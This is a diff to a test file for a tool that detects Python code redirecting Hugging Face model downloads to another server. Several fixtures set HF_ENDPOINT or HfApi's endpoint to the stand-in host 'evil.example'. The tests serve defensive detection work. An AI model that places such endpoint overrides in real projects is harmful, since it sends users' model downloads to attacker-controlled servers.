@@ -1,5 +1,6 @@
 import { describe, expect, it } from 'vitest';
 import { linked } from '../../linking.ts';
+import { loose } from '../../../../support/build.ts';
 
 const LOAD = 'from transformers import AutoModel\nAutoModel.from_pretrained("org/a")\n';
 const EVIL = 'https://evil.example';
@@ -25,7 +26,7 @@ describe('every way in which Python code sets the server counts (T9, T37)', () =
     ['a constant of the library, imported', `from huggingface_hub import constants\nconstants.ENDPOINT = "${EVIL}"\n`],
     ['a setting of datasets', `import datasets\ndatasets.config.HF_ENDPOINT = "${EVIL}"\n`],
   ])('%s', async (_name, code) => {
-    expect((await linked({ 'app.py': code + LOAD })).sightings.map(({ endpoint }) => endpoint)).toEqual([EVIL]);
+    expect((await linked({ 'app.py': code + LOAD })).sightings.map(loose).map(({ endpoint }) => endpoint)).toEqual([EVIL]);
   });
 
   it.each<[string, string]>([
@@ -37,7 +38,7 @@ describe('every way in which Python code sets the server counts (T9, T37)', () =
     ['another variable', `import os\nos.environ |= {"TRANSFORMERS_OFFLINE": "1"}\n`],
     ['a text', `x = 'os.environ["HF_ENDPOINT"] = "${EVIL}"'\n`],
   ])('not %s', async (_name, code) => {
-    expect((await linked({ 'app.py': code + LOAD })).sightings.map(({ endpoint }) => endpoint)).toEqual([null]);
+    expect((await linked({ 'app.py': code + LOAD })).sightings.map(loose).map(({ endpoint }) => endpoint)).toEqual([null]);
   });
 
   it.each<[string, string]>([
@@ -51,6 +52,6 @@ describe('every way in which Python code sets the server counts (T9, T37)', () =
       `from huggingface_hub import HfApi\nclass K:\n  def __init__(self):\n    self.api = HfApi(endpoint="${EVIL}")\n  def f(self):\n    self.api.snapshot_download("org/a")\n`,
     ],
   ])('an endpoint that %s names', async (_name, code) => {
-    expect((await linked({ 'app.py': code })).sightings.map(({ endpoint }) => endpoint)).toEqual([EVIL]);
+    expect((await linked({ 'app.py': code })).sightings.map(loose).map(({ endpoint }) => endpoint)).toEqual([EVIL]);
   });
 });
